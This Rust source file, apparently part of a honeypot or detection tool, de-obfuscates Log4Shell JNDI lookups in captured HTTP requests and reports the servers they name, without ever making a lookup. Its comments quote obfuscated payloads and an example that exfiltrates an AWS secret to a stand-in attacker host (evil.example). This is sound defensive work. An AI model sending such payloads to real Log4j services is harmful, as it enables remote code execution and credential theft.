//! Log4j lookups in what a JVM was sent: finds the `${jndi:…}` lookups in the first bytes a
//! JVM received on an accepted socket, through the obfuscations used against CVE-2021-44228
//! and CVE-2021-45046, and names the server each would have contacted. No I/O.
//!
//! Log4j 2.0–2.14 resolved `${…}` lookups in every message it logged, with `StrSubstitutor`
//! and `Interpolator` ([source, 2.14.1]): lookups nest, the name is resolved before it is
//! looked up, `:-` gives a default, and a value is itself resolved again. So attackers spell
//! `jndi:` out of other lookups — `${${lower:J}ndi:…}`, `${${::-j}ndi:…}`,
//! `${${env:NOPE:-j}ndi:…}`, `${${date:'j'}ndi:…}`. [`deobfuscate`] replays that algorithm for
//! the lookups whose value needs nothing from the target host; [`find_jndi`] runs it over each
//! part of an HTTP request (or over the whole sample for other protocols), as sent and after
//! undoing URL, `\u` and HTML-entity encoding, which an application may undo before it logs.
//!
//! Everything here is attacker-controlled: nesting depth and work are bounded (Log4j itself
//! had none: CVE-2021-45105), nothing panics, and every string in a [`JndiFinding`] is
//! escaped for a log line.
//!
//! [source, 2.14.1]: https://github.com/apache/logging-log4j2/blob/rel/2.14.1/log4j-core/src/main/java/org/apache/logging/log4j/core/lookup/StrSubstitutor.java

use std::{borrow::Cow, ops::Range};

/// A JNDI lookup Log4j would have made while logging part of a sample.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct JndiFinding {
    /// The lookup as it appeared in the sample, still encoded and obfuscated (at most
    /// [`MAX_RAW_CHARS`] characters, then `...`; escaped for a log line). A lookup cut by the
    /// end of the sample is resolved as if it were closed there, and lacks its closing `}`.
    pub raw: String,
    /// The de-obfuscated lookup, e.g. `${jndi:ldap://evil.example:1389/a}`, with `jndi` and the
    /// scheme lower-cased; for a `limit-exceeded` finding, the lookup as far as it was
    /// resolved (at most [`MAX_FIELD_CHARS`] characters; escaped).
    pub normalized: String,
    /// The JNDI URL scheme, lower-cased: `ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`,
    /// `nis`, `http`, ...; empty when the name has none, or for a lookup too deep or too costly
    /// to resolve (see `limit-exceeded` in [`JndiFinding::obfuscations`]).
    pub scheme: String,
    /// What follows `scheme://` (or `scheme:`), e.g. `evil.example:1389/a`; the whole name when
    /// there is no scheme. A lookup Log4j would have filled in from the target host stays as
    /// written, e.g. `evil.example/${env:AWS_SECRET_ACCESS_KEY}` (at most [`MAX_FIELD_CHARS`]
    /// characters; escaped).
    pub target: String,
    /// The obfuscation techniques seen, in a fixed order: `url-encoding`,
    /// `double-url-encoding`, `unicode-escape`, `html-entity`, `mixed-case`, `nested`,
    /// `default-value`, `limit-exceeded`, then the name of each other lookup that was used:
    /// `lower`, `upper`, `date`, `env`, `sys`, `main`, `bundle`, `ctx`, `map`, `sd`, `marker`,
    /// `java`, `jvmrunargs`, `k8s`, `docker`, `spring`, `web`, `log4j`, `event`.
    pub obfuscations: Vec<&'static str>,
    /// Where it was found: `request-line`, `header:<name as sent>`, `body`, or `data` when
    /// the sample is not an HTTP/1 request.
    pub location: String,
}

/// Characters of [`JndiFinding::raw`] kept, at most.
pub const MAX_RAW_CHARS: usize = 200;
/// Characters of [`JndiFinding::normalized`] and [`JndiFinding::target`] kept, at most.
pub const MAX_FIELD_CHARS: usize = 512;
/// Characters of a header name kept in [`JndiFinding::location`], at most.
const MAX_HEADER_NAME_CHARS: usize = 64;
/// Findings returned for one sample, at most.
pub const MAX_FINDINGS: usize = 32;
/// Lookups resolved inside one another, at most; a deeper one is left as written. Published
/// payloads nest four deep; a 1 KiB sample could nest some 170.
pub const MAX_DEPTH: usize = 32;
/// Bytes one substitution may scan and produce, in all: enough for any 1 KiB sample many
/// times over, and what keeps a crafted one from costing more than a few milliseconds.
pub const WORK_BUDGET: usize = 1 << 20;
/// Rounds of URL, `\u` and HTML-entity decoding tried, at most.
const MAX_DECODE_ROUNDS: usize = 3;

/// Finds every JNDI lookup Log4j 2.0–2.14 would have made had it logged a part of `sample`
/// (the request line, a header line, the body; or all of it when `sample` is not HTTP/1),
/// as sent or URL-, `\u`- or HTML-entity-decoded. One finding per location and lookup, in
/// the order found, at most [`MAX_FINDINGS`].
///
/// Two departures from Log4j, both towards reporting: an unclosed `${` is skipped where
/// Log4j would stop resolving the rest of the text, and a lookup nested deeper than
/// [`MAX_DEPTH`] or costing more than [`WORK_BUDGET`] is reported with the
/// `limit-exceeded` technique and no scheme, since no benign request carries one.
pub fn find_jndi(sample: &[u8]) -> Vec<JndiFinding> {
    let mut findings = Vec::new();
    for part in parts(sample) {
        for view in views(part.bytes) {
            find_in_view(&part, &view, &mut findings);
        }
    }
    findings
}

/// Adds the lookups Log4j would make logging `view` of `part` to `findings`.
fn find_in_view(part: &Part<'_>, view: &View, findings: &mut Vec<JndiFinding>) {
    let mut substitutor = Substitutor::new(true);
    let mut regions = Vec::new();
    let mut top = TopLevel {
        regions: &mut regions,
        open_end: part.open_end,
    };
    substitutor.substitute(&view.text, 0, Techniques::NONE, Some(&mut top));
    for region in &regions {
        let from = view.to_part.get(region.text.start).copied().unwrap_or(0);
        let to = view.to_part.get(region.text.end).copied().unwrap_or(from);
        let raw = part.bytes.get(from..to).unwrap_or_default();
        let raw = escape(&String::from_utf8_lossy(raw), MAX_RAW_CHARS);
        let lookups = substitutor
            .lookups
            .get(region.lookups.clone())
            .unwrap_or_default();
        for lookup in lookups {
            let name = JndiName::parse(&lookup.name);
            push_unique(
                findings,
                JndiFinding {
                    raw: raw.clone(),
                    normalized: escape(&name.normalized(), MAX_FIELD_CHARS),
                    scheme: name.scheme,
                    target: escape(name.target, MAX_FIELD_CHARS),
                    obfuscations: lookup.techniques.union(view.techniques).names(),
                    location: part.location.clone(),
                },
            );
        }
        if lookups.is_empty() && region.limited {
            let techniques = view
                .techniques
                .union(Techniques::NESTED)
                .union(Techniques::LIMIT_EXCEEDED);
            push_unique(
                findings,
                JndiFinding {
                    raw,
                    normalized: escape(&region.value, MAX_FIELD_CHARS),
                    scheme: String::new(),
                    target: String::new(),
                    obfuscations: techniques.names(),
                    location: part.location.clone(),
                },
            );
        }
    }
}

/// Resolves the lookups in `expr` as Log4j 2.0–2.14's `StrSubstitutor` would, for the
/// building blocks attackers use: `lower`, `upper`, `date` with a quoted-literal pattern,
/// and the `:-` default of every other lookup. The rest — `env`, `sys`, `java`, `ctx`,
/// `${hostName}`, any unknown lookup — are taken as unset (the environment is never read),
/// so their default applies, or they stay as written when they have none. A `jndi` lookup
/// is never made: it stays in place with `jndi` and its scheme lower-cased, e.g.
/// `${${::-j}ndi:${lower:R}mi://x/o}` gives `${jndi:rmi://x/o}`.
///
/// Nesting deeper than [`MAX_DEPTH`] and work beyond [`WORK_BUDGET`] are left as written.
/// The noncharacter U+FDD0, used internally, reads as U+FFFD.
pub fn deobfuscate(expr: &str) -> String {
    let expr = expr.replace(OPAQUE_DOLLAR, "\u{fffd}");
    let mut substitutor = Substitutor::new(false);
    let (resolved, _) = substitutor.substitute(&expr, 0, Techniques::NONE, None);
    restore(&resolved)
}

fn push_unique(findings: &mut Vec<JndiFinding>, finding: JndiFinding) {
    let seen = findings
        .iter()
        .any(|f| f.location == finding.location && f.normalized == finding.normalized);
    if !seen && findings.len() < MAX_FINDINGS {
        findings.push(finding);
    }
}

// === Lookups ===

/// How a lookup's value is found, here.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Resolve {
    /// Makes the JNDI lookup: what we are looking for.
    Jndi,
    /// The name, lower-cased (`LowerLookup`).
    Lower,
    /// The name, upper-cased (`UpperLookup`).
    Upper,
    /// The name is a `SimpleDateFormat` pattern: known when it is all quoted literals.
    Date,
    /// Depends on the target host: taken as unset.
    Unset,
}

/// The lookups Log4j 2.x registers by default (`Interpolator`), by prefix. The index of each
/// but `jndi` names a technique in [`Techniques`].
const LOOKUPS: [(&str, Resolve); 20] = [
    ("jndi", Resolve::Jndi),
    ("lower", Resolve::Lower),
    ("upper", Resolve::Upper),
    ("date", Resolve::Date),
    ("env", Resolve::Unset),
    ("sys", Resolve::Unset),
    ("main", Resolve::Unset),
    ("bundle", Resolve::Unset),
    ("ctx", Resolve::Unset),
    ("map", Resolve::Unset),
    ("sd", Resolve::Unset),
    ("marker", Resolve::Unset),
    ("java", Resolve::Unset),
    ("jvmrunargs", Resolve::Unset),
    ("k8s", Resolve::Unset),
    ("docker", Resolve::Unset),
    ("spring", Resolve::Unset),
    ("web", Resolve::Unset),
    ("log4j", Resolve::Unset),
    ("event", Resolve::Unset),
];

/// The registered lookup `prefix` names, and its index in [`LOOKUPS`]. Log4j lower-cases the
/// prefix with `Locale.US`, i.e. without the Turkish dotted/dotless `i` rules, as Rust does.
fn registered(prefix: &str) -> Option<(usize, Resolve)> {
    // No name is longer than 10 characters, of at most 4 bytes each before lower-casing.
    if prefix.len() > 40 {
        return None;
    }
    let prefix = prefix.to_lowercase();
    LOOKUPS
        .iter()
        .position(|(name, _)| *name == prefix)
        .and_then(|index| LOOKUPS.get(index).map(|(_, resolve)| (index, *resolve)))
}

/// What `SimpleDateFormat` prints for `pattern` when it holds no date field: quoted text as
/// is (`''` is a quote) and other characters but ASCII letters as they are. `None` when it
/// would print a date, which we cannot know (an unquoted letter, or an unclosed quote, on
/// which Log4j falls back to the default format).
fn date_literal(pattern: &str) -> Option<String> {
    let mut literal = String::with_capacity(pattern.len());
    let mut quoted = false;
    let mut chars = pattern.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\'' {
            if chars.peek() == Some(&'\'') {
                chars.next();
                literal.push('\'');
            } else {
                quoted = !quoted;
            }
        } else if quoted || !c.is_ascii_alphabetic() {
            literal.push(c);
        } else {
            return None;
        }
    }
    (!quoted).then_some(literal)
}

// === Techniques ===

/// A set of obfuscation techniques: [`FIXED_TECHNIQUES`], then one per entry of [`LOOKUPS`].
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Techniques(u64);

/// The techniques that are not a lookup, in bit order.
const FIXED_TECHNIQUES: [&str; 8] = [
    "url-encoding",
    "double-url-encoding",
    "unicode-escape",
    "html-entity",
    "mixed-case",
    "nested",
    "default-value",
    "limit-exceeded",
];

const _: () = assert!(FIXED_TECHNIQUES.len() + LOOKUPS.len() <= 64);

impl Techniques {
    const NONE: Self = Self(0);
    const URL_ENCODING: Self = Self(1 << 0);
    const DOUBLE_URL_ENCODING: Self = Self(1 << 1);
    const UNICODE_ESCAPE: Self = Self(1 << 2);
    const HTML_ENTITY: Self = Self(1 << 3);
    const MIXED_CASE: Self = Self(1 << 4);
    const NESTED: Self = Self(1 << 5);
    const DEFAULT_VALUE: Self = Self(1 << 6);
    const LIMIT_EXCEEDED: Self = Self(1 << 7);

    /// The lookup at `index` in [`LOOKUPS`] was used.
    fn lookup(index: usize) -> Self {
        Self(1 << (FIXED_TECHNIQUES.len() + index))
    }

    fn union(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    fn contains(self, other: Self) -> bool {
        self.0 & other.0 == other.0
    }

    fn names(self) -> Vec<&'static str> {
        FIXED_TECHNIQUES
            .iter()
            .copied()
            .chain(LOOKUPS.iter().map(|(name, _)| *name))
            .enumerate()
            .filter(|(bit, _)| self.0 & (1 << bit) != 0)
            .map(|(_, name)| name)
            .collect()
    }
}

// === Substitution ===

/// Stands for a `$` in text that must not be resolved again: a value Log4j would not have
/// had as a lookup (what a JNDI or environment lookup returns on the target), kept as
/// written. A noncharacter, reserved by Unicode for internal use; input is cleaned of it.
const OPAQUE_DOLLAR: char = '\u{fdd0}';

fn opaque(text: &str) -> String {
    text.replace('$', &OPAQUE_DOLLAR.to_string())
}

fn restore(text: &str) -> String {
    text.replace(OPAQUE_DOLLAR, "$")
}

/// A `jndi:` lookup Log4j would have made.
#[derive(Debug)]
struct JndiLookup {
    /// What follows `jndi:`, resolved.
    name: String,
    /// How the lookup was built.
    techniques: Techniques,
}

/// A lookup in the text given to a top-level [`Substitutor::substitute`].
#[derive(Debug)]
struct Region {
    /// Where, from `${` to `}` (or the end of the text, when unclosed).
    text: Range<usize>,
    /// The JNDI lookups made resolving it, in [`Substitutor::lookups`].
    lookups: Range<usize>,
    /// A limit cut resolving it short.
    limited: bool,
    /// What it resolved to.
    value: String,
}

/// Where a top-level substitution reports its lookups.
#[derive(Debug)]
struct TopLevel<'a> {
    regions: &'a mut Vec<Region>,
    /// The text may have been cut: resolve a lookup left open at its end as if closed there.
    open_end: bool,
}

/// Replays Log4j's `StrSubstitutor.substitute` on attacker text, within [`MAX_DEPTH`] and
/// [`WORK_BUDGET`], recording the JNDI lookups it would make instead of making them.
#[derive(Debug)]
struct Substitutor {
    /// Bytes still to be scanned or produced.
    budget: usize,
    /// A limit cut the substitution short since this was last cleared.
    limited: bool,
    /// Skip an unclosed `${` and go on, where Log4j leaves the rest of the text as it is.
    lenient: bool,
    /// Every `jndi:` lookup made, in order.
    lookups: Vec<JndiLookup>,
}

impl Substitutor {
    fn new(lenient: bool) -> Self {
        Self {
            budget: WORK_BUDGET,
            limited: false,
            lenient,
            lookups: Vec::new(),
        }
    }

    fn charge(&mut self, bytes: usize) -> bool {
        match self.budget.checked_sub(bytes) {
            Some(left) => {
                self.budget = left;
                true
            }
            None => {
                self.budget = 0;
                self.limited = true;
                false
            }
        }
    }

    /// Resolves the lookups in `text`, found `depth` lookups deep; `context` is how the text
    /// itself was built. Returns the text and the techniques used, which include `nested`
    /// when a lookup was resolved.
    ///
    /// Like Log4j, a `$` before `${` escapes it (and is dropped), checked against what has
    /// been produced so far (so a lookup's value ending in `$` escapes the next one), and
    /// a lookup's end is its matching `}`, nested `${` counted.
    fn substitute(
        &mut self,
        text: &str,
        depth: usize,
        context: Techniques,
        mut top: Option<&mut TopLevel<'_>>,
    ) -> (String, Techniques) {
        if !self.charge(text.len() + 1) {
            return (opaque(text), Techniques::NONE);
        }
        let pairs = brace_pairs(text);
        let mut out = String::with_capacity(text.len());
        let mut used = Techniques::NONE;
        let mut pos = 0;
        for (index, &(start, end)) in pairs.iter().enumerate() {
            if start < pos {
                continue;
            }
            out.push_str(text.get(pos..start).unwrap_or_default());
            pos = start;
            if out.ends_with('$') {
                // Escaped: Log4j deletes the `$` before and scans on from the `{`. The `$`
                // already in `out` now stands for this one.
                pos = start + 1;
                continue;
            }
            let open_end = top.as_ref().is_some_and(|top| top.open_end);
            let (region_end, inner) = match end {
                Some(end) => (
                    end + 1,
                    Cow::Borrowed(text.get(start + 2..end).unwrap_or_default()),
                ),
                None if open_end => {
                    // Close it, and every `${` left open inside it, at the end of the text.
                    let unclosed = pairs
                        .get(index..)
                        .unwrap_or_default()
                        .iter()
                        .filter(|(_, end)| end.is_none())
                        .count();
                    let mut inner = text.get(start + 2..).unwrap_or_default().to_owned();
                    inner.extend(std::iter::repeat_n('}', unclosed.saturating_sub(1)));
                    (text.len(), Cow::Owned(inner))
                }
                None if self.lenient => {
                    out.push_str("${");
                    pos = start + 2;
                    continue;
                }
                // Log4j gives up on the rest of the text.
                None => break,
            };
            let original = text.get(start..region_end).unwrap_or_default();
            let first_lookup = self.lookups.len();
            if top.is_some() {
                self.limited = false;
            }
            let (value, techniques) = self.evaluate(&inner, original, depth + 1, context);
            used = used.union(techniques).union(Techniques::NESTED);
            if let Some(top) = top.as_deref_mut() {
                top.regions.push(Region {
                    text: start..region_end,
                    lookups: first_lookup..self.lookups.len(),
                    limited: self.limited,
                    value: restore(&value),
                });
            }
            out.push_str(&value);
            pos = region_end;
        }
        out.push_str(text.get(pos..).unwrap_or_default());
        (out, used)
    }

    /// Resolves one lookup, `${` `inner` `}` (`original` as written), `depth` lookups deep.
    fn evaluate(
        &mut self,
        inner: &str,
        original: &str,
        depth: usize,
        context: Techniques,
    ) -> (String, Techniques) {
        if depth > MAX_DEPTH {
            self.limited = true;
            return (opaque(original), Techniques::NONE);
        }
        // The name is resolved first, default and all; then split at the first `:-`.
        let (name, mut used) = self.substitute(inner, depth, context, None);
        let (var, default) = match name.split_once(":-") {
            Some((var, default)) => (var, Some(default)),
            None => (name.as_str(), None),
        };
        let mut value = None;
        // `Interpolator.lookup`: the prefix is up to the first `:`. A prefix it does not
        // know, or no prefix, looks the name up in the configuration's properties: unset.
        if let Some((prefix, key)) = var.split_once(':') {
            if let Some((index, resolve)) = registered(prefix) {
                if resolve != Resolve::Jndi {
                    used = used.union(Techniques::lookup(index));
                }
                match resolve {
                    Resolve::Jndi if !key.is_empty() => {
                        let mut techniques = context.union(used);
                        if prefix != "jndi" {
                            techniques = techniques.union(Techniques::MIXED_CASE);
                        }
                        if depth > 1 {
                            techniques = techniques.union(Techniques::NESTED);
                        }
                        let name = restore(key);
                        let parsed = JndiName::parse(&name);
                        if parsed.mixed_case {
                            techniques = techniques.union(Techniques::MIXED_CASE);
                        }
                        let normalized = parsed.normalized();
                        self.lookups.push(JndiLookup { name, techniques });
                        // What the server answers is not a lookup: never resolved again.
                        return (opaque(&normalized), used);
                    }
                    Resolve::Lower => value = Some(key.to_lowercase()),
                    Resolve::Upper => value = Some(key.to_uppercase()),
                    Resolve::Date => match date_literal(key) {
                        Some(literal) => value = Some(literal),
                        None => return (opaque(original), used),
                    },
                    Resolve::Jndi | Resolve::Unset => {}
                }
            }
        }
        let value = match (value, default) {
            (Some(value), _) => value,
            (None, Some(default)) => {
                used = used.union(Techniques::DEFAULT_VALUE);
                default.to_owned()
            }
            // Unresolved: Log4j leaves the lookup as written.
            (None, None) => return (opaque(original), used),
        };
        if !value.contains("${") {
            return if self.charge(value.len()) {
                (value, used)
            } else {
                (opaque(original), used)
            };
        }
        // A value is resolved again (how `$${` in a default comes alive).
        let (value, more) = self.substitute(&value, depth, context.union(used), None);
        (value, used.union(more))
    }
}

/// Every `${` in `text` by byte offset, with the offset of its matching `}` (nested `${`
/// counted, as Log4j counts them: a `$${` counts too), or `None` when it is left open.
fn brace_pairs(text: &str) -> Vec<(usize, Option<usize>)> {
    let bytes = text.as_bytes();
    let mut pairs: Vec<(usize, Option<usize>)> = Vec::new();
    let mut open = Vec::new();
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if b == b'$' && bytes.get(i + 1) == Some(&b'{') {
            open.push(pairs.len());
            pairs.push((i, None));
            i += 2;
            continue;
        }
        if b == b'}' {
            if let Some(pair) = open.pop().and_then(|at| pairs.get_mut(at)) {
                pair.1 = Some(i);
            }
        }
        i += 1;
    }
    pairs
}

/// The name of a JNDI lookup, split as the JDK's `getURLScheme` does: the scheme is what
/// comes before the first `:`, when that is an RFC 3986 scheme.
#[derive(Debug)]
struct JndiName<'a> {
    /// Lower-cased; empty when there is none.
    scheme: String,
    /// After `scheme:`, or the whole name.
    rest: &'a str,
    /// After `scheme://` (or `scheme:`), or the whole name.
    target: &'a str,
    /// The scheme was not all lower-case.
    mixed_case: bool,
}

impl<'a> JndiName<'a> {
    fn parse(name: &'a str) -> Self {
        let scheme = name.split_once(':').filter(|(scheme, _)| {
            let mut chars = scheme.chars();
            chars.next().is_some_and(|c| c.is_ascii_alphabetic())
                && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
        });
        match scheme {
            Some((scheme, rest)) => Self {
                scheme: scheme.to_ascii_lowercase(),
                rest,
                target: rest.strip_prefix("//").unwrap_or(rest),
                mixed_case: scheme.bytes().any(|b| b.is_ascii_uppercase()),
            },
            None => Self {
                scheme: String::new(),
                rest: name,
                target: name,
                mixed_case: false,
            },
        }
    }

    fn normalized(&self) -> String {
        if self.scheme.is_empty() {
            format!("${{jndi:{}}}", self.rest)
        } else {
            format!("${{jndi:{}:{}}}", self.scheme, self.rest)
        }
    }
}

// === Parts of a request ===

/// A part of the sample an application would log on its own.
#[derive(Debug)]
struct Part<'a> {
    bytes: &'a [u8],
    location: String,
    /// The part runs to the end of the sample, so it may have been cut.
    open_end: bool,
}

/// A line of the sample, without its line end.
#[derive(Debug)]
struct Line {
    text: Range<usize>,
    /// Where the next line starts.
    next: usize,
    /// It ends with `\n`, rather than with the sample.
    terminated: bool,
}

fn next_line(sample: &[u8], start: usize) -> Option<Line> {
    let rest = sample.get(start..).filter(|rest| !rest.is_empty())?;
    let (end, next, terminated) = match rest.iter().position(|&b| b == b'\n') {
        Some(at) => (start + at, start + at + 1, true),
        None => (sample.len(), sample.len(), false),
    };
    let end = if end > start && sample.get(end - 1) == Some(&b'\r') {
        end - 1
    } else {
        end
    };
    Some(Line {
        text: start..end,
        next,
        terminated,
    })
}

/// Splits an HTTP/1 request into its request line, header lines and body; anything else is
/// one part, `data`. A header's continuation line (obsolete line folding) is a part of its
/// own, under the header's name.
fn parts(sample: &[u8]) -> Vec<Part<'_>> {
    let Some(first) = next_line(sample, 0) else {
        return Vec::new();
    };
    let line = |line: &Line| sample.get(line.text.clone()).unwrap_or_default();
    if !is_request_line(line(&first), first.terminated) {
        return vec![Part {
            bytes: sample,
            location: "data".to_owned(),
            open_end: true,
        }];
    }
    let mut parts = vec![Part {
        bytes: line(&first),
        location: "request-line".to_owned(),
        open_end: !first.terminated,
    }];
    let mut header = "headers".to_owned();
    let mut next = first.next;
    while let Some(current) = next_line(sample, next) {
        let text = line(&current);
        if text.is_empty() {
            if let Some(body) = sample.get(current.next..).filter(|body| !body.is_empty()) {
                parts.push(Part {
                    bytes: body,
                    location: "body".to_owned(),
                    open_end: true,
                });
            }
            break;
        }
        if !matches!(text.first(), Some(b' ' | b'\t')) {
            header = match text.iter().position(|&b| b == b':') {
                Some(colon) => {
                    let name = String::from_utf8_lossy(text.get(..colon).unwrap_or_default());
                    format!("header:{}", escape(name.trim(), MAX_HEADER_NAME_CHARS))
                }
                None => "headers".to_owned(),
            };
        }
        parts.push(Part {
            bytes: text,
            location: header.clone(),
            open_end: !current.terminated,
        });
        next = current.next;
    }
    parts
}

/// `METHOD target HTTP/x.y` (RFC 9112 §3), the version possibly cut off with the line.
fn is_request_line(line: &[u8], terminated: bool) -> bool {
    let mut words = line.split(|&b| b == b' ');
    let method = words.next().unwrap_or_default();
    let target = words.next().unwrap_or_default();
    let method_ok = (1..=20).contains(&method.len())
        && method
            .iter()
            .all(|b| b.is_ascii_uppercase() || matches!(b, b'-' | b'_'));
    let target_ok = matches!(target.first(), Some(b'/' | b'*'))
        || target
            .get(..4)
            .is_some_and(|scheme| scheme.eq_ignore_ascii_case(b"http"));
    let version_ok = !terminated
        || line
            .rsplit(|&b| b == b' ')
            .next()
            .is_some_and(|v| v.starts_with(b"HTTP/"));
    method_ok && target_ok && version_ok
}

// === Decoded views of a part ===

/// A part, possibly decoded, as text.
#[derive(Debug)]
struct View {
    text: String,
    /// For each byte of `text`, and its end, the offset in the part it came from.
    to_part: Vec<usize>,
    /// The decodings applied.
    techniques: Techniques,
}

/// Bytes decoded from others.
#[derive(Debug)]
struct Decoded {
    bytes: Vec<u8>,
    /// For each byte, and the end, the offset of what it was decoded from.
    from: Vec<usize>,
}

impl Decoded {
    fn with_capacity(len: usize) -> Self {
        Self {
            bytes: Vec::with_capacity(len),
            from: Vec::with_capacity(len + 1),
        }
    }

    fn push(&mut self, byte: u8, from: usize) {
        self.bytes.push(byte);
        self.from.push(from);
    }

    fn push_char(&mut self, c: char, from: usize) {
        let mut utf8 = [0; 4];
        for &byte in c.encode_utf8(&mut utf8).as_bytes() {
            self.push(byte, from);
        }
    }

    /// Ends the decoding of `len` bytes: `Some` if anything was decoded.
    fn finish(mut self, len: usize, changed: bool) -> Option<Self> {
        self.from.push(len);
        changed.then_some(self)
    }

    /// Offsets in what `earlier` was decoded from.
    fn through(mut self, earlier: &[usize]) -> Self {
        for from in &mut self.from {
            *from = earlier.get(*from).copied().unwrap_or(*from);
        }
        self
    }
}

type Decoder = fn(&[u8]) -> Option<Decoded>;

/// The decodings an application may apply before it logs, each with its technique.
const DECODERS: [(Decoder, Techniques); 3] = [
    (percent_decode, Techniques::URL_ENCODING),
    (unicode_unescape, Techniques::UNICODE_ESCAPE),
    (html_unescape, Techniques::HTML_ENTITY),
];

/// The part as sent; URL-decoded once, twice and three times; `\u`-unescaped;
/// HTML-entity-decoded; and all of these applied together until nothing changes. Only those
/// that differ and contain `${`.
fn views(part: &[u8]) -> Vec<View> {
    let identity: Vec<usize> = (0..=part.len()).collect();
    let mut views = vec![View::new(part, &identity, Techniques::NONE)];

    let mut decoded = Decoded {
        bytes: part.to_vec(),
        from: identity.clone(),
    };
    for round in 0..MAX_DECODE_ROUNDS {
        let Some(next) = percent_decode(&decoded.bytes) else {
            break;
        };
        decoded = next.through(&decoded.from);
        let techniques = if round == 0 {
            Techniques::URL_ENCODING
        } else {
            Techniques::URL_ENCODING.union(Techniques::DOUBLE_URL_ENCODING)
        };
        views.push(View::new(&decoded.bytes, &decoded.from, techniques));
    }
    let others: [(Decoder, Techniques); 2] = [
        (unicode_unescape, Techniques::UNICODE_ESCAPE),
        (html_unescape, Techniques::HTML_ENTITY),
    ];
    for (decode, technique) in others {
        if let Some(decoded) = decode(part) {
            views.push(View::new(&decoded.bytes, &decoded.from, technique));
        }
    }

    let mut all = Decoded {
        bytes: part.to_vec(),
        from: identity,
    };
    let mut used = Techniques::NONE;
    for _ in 0..MAX_DECODE_ROUNDS {
        let mut changed = false;
        for (decode, technique) in DECODERS {
            if let Some(next) = decode(&all.bytes) {
                all = next.through(&all.from);
                if technique == Techniques::URL_ENCODING && used.contains(technique) {
                    used = used.union(Techniques::DOUBLE_URL_ENCODING);
                }
                used = used.union(technique);
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    let all = View::new(&all.bytes, &all.from, used);
    if !views.iter().any(|view| view.text == all.text) {
        views.push(all);
    }

    views.retain(|view| view.text.contains("${"));
    views
}

impl View {
    /// `bytes` as text, invalid UTF-8 and U+FDD0 replaced with U+FFFD; `from` maps `bytes`
    /// to the part.
    fn new(bytes: &[u8], from: &[usize], techniques: Techniques) -> Self {
        let mut text = String::with_capacity(bytes.len());
        let mut to_part = Vec::with_capacity(bytes.len() + 1);
        let mut at = 0;
        let origin = |at: usize| from.get(at).copied().unwrap_or(0);
        for chunk in bytes.utf8_chunks() {
            for c in chunk.valid().chars() {
                let shown = if c == OPAQUE_DOLLAR {
                    char::REPLACEMENT_CHARACTER
                } else {
                    c
                };
                text.push(shown);
                to_part.extend(std::iter::repeat_n(origin(at), shown.len_utf8()));
                at += c.len_utf8();
            }
            if !chunk.invalid().is_empty() {
                text.push(char::REPLACEMENT_CHARACTER);
                to_part.extend(std::iter::repeat_n(
                    origin(at),
                    char::REPLACEMENT_CHARACTER.len_utf8(),
                ));
                at += chunk.invalid().len();
            }
        }
        to_part.push(origin(at));
        Self {
            text,
            to_part,
            techniques,
        }
    }
}

fn hex_digit(byte: Option<&u8>) -> Option<u32> {
    char::from(*byte?).to_digit(16)
}

/// `%XX` (RFC 3986 §2.1), as servlet containers decode the query and form bodies.
fn percent_decode(input: &[u8]) -> Option<Decoded> {
    if !input.contains(&b'%') {
        return None;
    }
    let mut out = Decoded::with_capacity(input.len());
    let mut changed = false;
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'%' {
            if let (Some(high), Some(low)) =
                (hex_digit(input.get(i + 1)), hex_digit(input.get(i + 2)))
            {
                out.push(u8::try_from(high * 16 + low).unwrap_or(b'?'), i);
                i += 3;
                changed = true;
                continue;
            }
        }
        out.push(b, i);
        i += 1;
    }
    out.finish(input.len(), changed)
}

fn hex4(input: &[u8], at: usize) -> Option<u32> {
    (at..at + 4).try_fold(0, |value, i| Some(value * 16 + hex_digit(input.get(i))?))
}

/// Java and JSON escapes: `\uXXXX` (surrogate pairs joined, a lone one read as U+FFFD),
/// `\/` and `\\`.
fn unicode_unescape(input: &[u8]) -> Option<Decoded> {
    if !input.contains(&b'\\') {
        return None;
    }
    let mut out = Decoded::with_capacity(input.len());
    let mut changed = false;
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'\\' {
            match input.get(i + 1) {
                Some(b'u') => {
                    if let Some(unit) = hex4(input, i + 2) {
                        let low = (input.get(i + 6..i + 8) == Some(b"\\u"))
                            .then(|| hex4(input, i + 8))
                            .flatten()
                            .filter(|low| (0xdc00..0xe000).contains(low));
                        let (c, len) = match low {
                            Some(low) if (0xd800..0xdc00).contains(&unit) => (
                                char::from_u32(0x10000 + ((unit - 0xd800) << 10) + (low - 0xdc00)),
                                12,
                            ),
                            _ => (char::from_u32(unit), 6),
                        };
                        out.push_char(c.unwrap_or(char::REPLACEMENT_CHARACTER), i);
                        i += len;
                        changed = true;
                        continue;
                    }
                }
                Some(&escaped @ (b'/' | b'\\')) => {
                    out.push(escaped, i);
                    i += 2;
                    changed = true;
                    continue;
                }
                _ => {}
            }
        }
        out.push(b, i);
        i += 1;
    }
    out.finish(input.len(), changed)
}

/// The character an HTML character reference at the start of `input` stands for, and its
/// length: `&#36;`, `&#x24;`, or one of the few named ones a lookup needs.
fn entity(input: &[u8]) -> Option<(char, usize)> {
    let end = input.iter().take(12).position(|&b| b == b';')?;
    let body = input.get(1..end)?;
    let c = match body {
        [b'#', b'x' | b'X', hex @ ..] if (1..=6).contains(&hex.len()) => {
            u32::from_str_radix(std::str::from_utf8(hex).ok()?, 16)
                .ok()
                .and_then(char::from_u32)?
        }
        [b'#', decimal @ ..]
            if (1..=7).contains(&decimal.len()) && decimal.iter().all(u8::is_ascii_digit) =>
        {
            std::str::from_utf8(decimal)
                .ok()?
                .parse()
                .ok()
                .and_then(char::from_u32)?
        }
        b"dollar" => '$',
        b"lbrace" | b"lcub" => '{',
        b"rbrace" | b"rcub" => '}',
        b"colon" => ':',
        b"sol" => '/',
        b"period" => '.',
        b"amp" => '&',
        _ => return None,
    };
    Some((c, end + 1))
}

/// HTML character references, as a templating layer may decode them.
fn html_unescape(input: &[u8]) -> Option<Decoded> {
    if !input.contains(&b'&') {
        return None;
